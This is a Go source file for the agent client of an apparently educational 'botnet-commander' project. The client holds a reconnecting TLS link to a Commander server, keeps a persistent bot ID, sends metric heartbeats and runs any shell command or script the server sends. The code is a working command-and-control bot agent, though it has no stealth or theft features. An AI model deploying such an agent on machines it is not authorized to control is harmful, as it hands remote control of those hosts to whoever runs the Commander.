// Package agentclient is the Agent side of the Agent Session protocol: a
// single persistent TLS connection to the Commander that identifies itself
// with a locally generated, durably cached 128-bit id, executes whatever
// exeCommand/exeScript frames arrive, and sends a botHello keepalive when it
// has otherwise been idle.
//
// The reconnect loop backs off as 2^min(attempt, MaxReconn) seconds between
// dial attempts, and the cached identifier is persisted atomically (temp
// file then rename) so a crash mid-write never corrupts it. The state
// machine runs Start -> TCPConnect -> TLSHandshake -> Identify -> Run ->
// Reconnect.
package agentclient

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"time"

	"github.com/google/uuid"
	"github.com/shirou/gopsutil/v4/cpu"
	"github.com/shirou/gopsutil/v4/mem"
	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/agentexec"
	"github.com/rpcyber/botnet-commander/internal/protocol"
)

const (
	// defaultMaxReconn caps the reconnect backoff exponent once no
	// MAX_RECONN is configured: delays grow 2,4,8,...,64 then hold.
	defaultMaxReconn = 6

	// defaultHelloFreq is how long the client may go without sending a
	// frame before it proactively sends a botHello keepalive.
	defaultHelloFreq = 60 * time.Second

	// defaultIdleTimeout bounds how long the client waits across the whole
	// read-or-hello cycle before it gives up on the connection.
	defaultIdleTimeout = 90 * time.Second

	// defaultRecvTimeout bounds a single ReadFrames call.
	defaultRecvTimeout = 30 * time.Second

	// defaultConnBuff is the outbound send channel's buffer capacity.
	defaultConnBuff = 8

	writeDeadline = 10 * time.Second
)

// State names a position in the client's connection lifecycle.
type State int

const (
	StateStart State = iota
	StateTCPConnect
	StateTLSHandshake
	StateIdentify
	StateRun
	StateReconnect
)

func (s State) String() string {
	switch s {
	case StateStart:
		return "Start"
	case StateTCPConnect:
		return "TCPConnect"
	case StateTLSHandshake:
		return "TLSHandshake"
	case StateIdentify:
		return "Identify"
	case StateRun:
		return "Run"
	case StateReconnect:
		return "Reconnect"
	default:
		return "Unknown"
	}
}

// Config holds every parameter needed to run a Client.
type Config struct {
	ServerAddr string
	TLSConfig  *tls.Config
	// IDFilePath is where the locally generated identifier is cached so it
	// survives process restarts. Defaults to /opt/bot-agent/.bot-agent.id.
	IDFilePath string
	Hostname   string
	OS         string

	// MaxReconn caps the reconnect backoff exponent: the nth consecutive
	// failed dial waits 2^min(n, MaxReconn) seconds before the next
	// attempt. Zero means defaultMaxReconn.
	MaxReconn int
	// HelloFreq is how long the client may go without sending a frame
	// before it sends a botHello keepalive. Zero means defaultHelloFreq.
	HelloFreq time.Duration
	// IdleTimeout bounds the total time an Identified connection may sit
	// without a successful read before it's treated as dead. Zero means
	// defaultIdleTimeout.
	IdleTimeout time.Duration
	// RecvTimeout bounds a single ReadFrames call. Zero means
	// defaultRecvTimeout.
	RecvTimeout time.Duration
	// ConnBuff is the outbound send channel's buffer capacity. Zero means
	// defaultConnBuff.
	ConnBuff int
}

func (c Config) maxReconn() int {
	if c.MaxReconn > 0 {
		return c.MaxReconn
	}
	return defaultMaxReconn
}

func (c Config) helloFreq() time.Duration {
	if c.HelloFreq > 0 {
		return c.HelloFreq
	}
	return defaultHelloFreq
}

func (c Config) idleTimeout() time.Duration {
	if c.IdleTimeout > 0 {
		return c.IdleTimeout
	}
	return defaultIdleTimeout
}

func (c Config) recvTimeout() time.Duration {
	if c.RecvTimeout > 0 {
		return c.RecvTimeout
	}
	return defaultRecvTimeout
}

func (c Config) connBuff() int {
	if c.ConnBuff > 0 {
		return c.ConnBuff
	}
	return defaultConnBuff
}

// Client runs the agent's connection lifecycle. Call Run to start it; Run
// blocks until ctx is cancelled.
type Client struct {
	cfg    Config
	logger *zap.Logger
	id     string

	state State
}

// New creates a Client. The local identifier is loaded from disk, or
// generated and persisted, the first time Run dials out.
func New(cfg Config, logger *zap.Logger) *Client {
	if cfg.IDFilePath == "" {
		cfg.IDFilePath = filepath.Join("/opt/bot-agent", ".bot-agent.id")
	}
	return &Client{cfg: cfg, logger: logger.Named("agentclient"), state: StateStart}
}

// State returns the client's current lifecycle state, for health probes.
func (c *Client) State() State { return c.state }

// Run drives the reconnect loop until ctx is cancelled.
func (c *Client) Run(ctx context.Context) error {
	id, err := c.loadOrCreateID()
	if err != nil {
		return fmt.Errorf("agentclient: resolve identifier: %w", err)
	}
	c.id = id
	c.logger = c.logger.With(zap.String("agent_id", c.id))

	reconnects := 0
	for {
		if ctx.Err() != nil {
			return nil
		}

		c.state = StateTCPConnect
		conn, err := c.dial(ctx)
		if err != nil {
			reconnects++
			backoff := reconnectBackoff(reconnects, c.cfg.maxReconn())
			c.logger.Warn("agentclient: connect failed, retrying", zap.Error(err), zap.Duration("backoff", backoff))
			c.state = StateReconnect
			select {
			case <-ctx.Done():
				return nil
			case <-time.After(backoff):
			}
			continue
		}

		if err := c.session(ctx, conn); err != nil {
			c.logger.Warn("agentclient: session ended, reconnecting", zap.Error(err))
		}
		c.state = StateReconnect
		reconnects = 0
	}
}

// reconnectBackoff returns the delay before the nth consecutive failed dial:
// 2^min(n, maxReconn) seconds, so delays grow 2,4,8,... until they hold flat
// at 2^maxReconn once n exceeds it.
func reconnectBackoff(n, maxReconn int) time.Duration {
	exp := n
	if exp > maxReconn {
		exp = maxReconn
	}
	if exp < 0 {
		exp = 0
	}
	return time.Duration(1<<uint(exp)) * time.Second
}

func (c *Client) dial(ctx context.Context) (net.Conn, error) {
	dialer := &net.Dialer{Timeout: 10 * time.Second}
	if c.cfg.TLSConfig == nil {
		return dialer.DialContext(ctx, "tcp", c.cfg.ServerAddr)
	}
	c.state = StateTLSHandshake
	return tls.DialWithDialer(dialer, "tcp", c.cfg.ServerAddr, c.cfg.TLSConfig)
}

// session runs one connected lifetime: identify, then pump frames until the
// connection drops or ctx is cancelled.
func (c *Client) session(ctx context.Context, conn net.Conn) error {
	framer := protocol.New(conn)
	defer framer.Close()

	c.state = StateIdentify
	if err := framer.WriteFrame(protocol.NewBotHostInfo(c.id, c.cfg.Hostname, c.cfg.OS), writeDeadline); err != nil {
		return fmt.Errorf("send botHostInfo: %w", err)
	}
	frames, err := framer.ReadFrames(c.cfg.idleTimeout())
	if err != nil {
		return fmt.Errorf("await botHostInfoReply: %w", err)
	}
	if len(frames) == 0 || frames[0].Kind != protocol.KindBotHostInfoReply {
		return fmt.Errorf("unexpected handshake response %+v", frames)
	}

	c.state = StateRun
	c.logger.Info("agentclient: identified with commander")

	send := make(chan protocol.Message, c.cfg.connBuff())
	writerDone := make(chan struct{})
	go func() {
		defer close(writerDone)
		c.writePump(framer, send, ctx.Done())
	}()

	err = c.readLoop(ctx, framer, send)
	close(send)
	<-writerDone
	return err
}

func (c *Client) writePump(framer *protocol.Framer, send <-chan protocol.Message, done <-chan struct{}) {
	for {
		select {
		case msg, ok := <-send:
			if !ok {
				return
			}
			if err := framer.WriteFrame(msg, writeDeadline); err != nil {
				c.logger.Warn("agentclient: write failed", zap.Error(err))
				return
			}
		case <-done:
			return
		}
	}
}

func (c *Client) readLoop(ctx context.Context, framer *protocol.Framer, send chan<- protocol.Message) error {
	lastActivity := time.Now()
	lastRead := lastActivity
	helloFreq := c.cfg.helloFreq()
	recvTimeout := c.cfg.recvTimeout()
	idleTimeout := c.cfg.idleTimeout()

	for {
		if ctx.Err() != nil {
			return nil
		}

		remaining := helloFreq - time.Since(lastActivity)
		if remaining <= 0 {
			select {
			case send <- protocol.NewBotHello(collectMetrics()):
			default:
			}
			lastActivity = time.Now()
			remaining = helloFreq
		}

		frames, err := framer.ReadFrames(minDuration(remaining, recvTimeout))
		if err != nil {
			if errors.Is(err, protocol.ErrTimeout) {
				if time.Since(lastRead) > idleTimeout {
					return fmt.Errorf("no frame received for %s: %w", idleTimeout, err)
				}
				continue
			}
			return err
		}
		lastActivity = time.Now()
		lastRead = lastActivity

		for _, msg := range frames {
			c.handle(ctx, msg, send)
		}
	}
}

func (c *Client) handle(ctx context.Context, msg protocol.Message, send chan<- protocol.Message) {
	switch msg.Kind {
	case protocol.KindBotHelloReply, protocol.KindBotHostInfoReply:
		// Acknowledged — nothing further to do.
	case protocol.KindExeCommand:
		// Executed synchronously, one command at a time, mirroring the
		// original agent: a long-running command delays the next read
		// (and therefore the idle-hello check) but never races the
		// writer against a session teardown.
		c.runCommand(ctx, *msg.ExeCommand, send)
	case protocol.KindExeScript:
		c.runScript(ctx, *msg.ExeScript, send)
	default:
		c.logger.Warn("agentclient: unexpected message kind", zap.String("kind", string(msg.Kind)))
	}
}

func (c *Client) runCommand(ctx context.Context, cmd protocol.ExeCommand, send chan<- protocol.Message) {
	res, err := agentexec.RunCommand(ctx, cmd.Command, cmd.Timeout)
	if err != nil {
		c.logger.Error("agentclient: command execution error", zap.String("command", cmd.Command), zap.Error(err))
		res.Output = fmt.Sprintf("internal execution error: %v", err)
		res.ExitCode = false
	}
	send <- protocol.NewExeCommandReply(cmd.Command, cmd.CmdID, res.Output, res.ExitCode)
}

func (c *Client) runScript(ctx context.Context, s protocol.ExeScript, send chan<- protocol.Message) {
	res, err := agentexec.RunScript(ctx, s.Type, s.Command, s.Timeout)
	if err != nil {
		c.logger.Error("agentclient: script execution error", zap.String("script", s.Script), zap.Error(err))
		res.Output = fmt.Sprintf("internal execution error: %v", err)
		res.ExitCode = false
	}
	send <- protocol.NewExeScriptReply(s.Script, s.CmdID, res.Output, res.ExitCode)
}

// collectMetrics samples a lightweight host-utilization snapshot to attach
// to the idle keepalive. Failures are non-fatal: the agent still needs to
// send a botHello even if the host metrics are unavailable (e.g. inside a
// restricted container), so a nil sample is sent instead of blocking the
// heartbeat on it.
func collectMetrics() *protocol.Metrics {
	cpuPercents, cpuErr := cpu.Percent(0, false)
	vm, memErr := mem.VirtualMemory()
	if cpuErr != nil || memErr != nil || len(cpuPercents) == 0 {
		return nil
	}
	return &protocol.Metrics{CPUPercent: cpuPercents[0], MemPercent: vm.UsedPercent}
}

func minDuration(a, b time.Duration) time.Duration {
	if a < b {
		return a
	}
	return b
}

type idFile struct {
	ID string `json:"id"`
}

func (c *Client) loadOrCreateID() (string, error) {
	data, err := os.ReadFile(c.cfg.IDFilePath)
	if err == nil {
		var f idFile
		if jsonErr := json.Unmarshal(data, &f); jsonErr == nil && f.ID != "" {
			return f.ID, nil
		}
		// Legacy plain-text id file (no JSON envelope): accept as-is.
		if len(data) > 0 {
			return string(data), nil
		}
	} else if !errors.Is(err, os.ErrNotExist) {
		return "", fmt.Errorf("read id file: %w", err)
	}

	id := uuid.NewString()
	if err := saveID(c.cfg.IDFilePath, id); err != nil {
		return "", fmt.Errorf("persist new id: %w", err)
	}
	return id, nil
}

func saveID(path, id string) error {
	dir := filepath.Dir(path)
	if err := os.MkdirAll(dir, 0o750); err != nil {
		return fmt.Errorf("create id dir: %w", err)
	}

	body, err := json.Marshal(idFile{ID: id})
	if err != nil {
		return err
	}

	tmp, err := os.CreateTemp(dir, ".bot-agent.id.*.tmp")
	if err != nil {
		return fmt.Errorf("create temp id file: %w", err)
	}
	tmpPath := tmp.Name()
	ok := false
	defer func() {
		if !ok {
			os.Remove(tmpPath)
		}
	}()

	if _, err := tmp.Write(body); err != nil {
		tmp.Close()
		return fmt.Errorf("write temp id file: %w", err)
	}
	if err := tmp.Close(); err != nil {
		return fmt.Errorf("close temp id file: %w", err)
	}
	if err := os.Rename(tmpPath, path); err != nil {
		return fmt.Errorf("rename id file: %w", err)
	}
	ok = true
	return nil
}

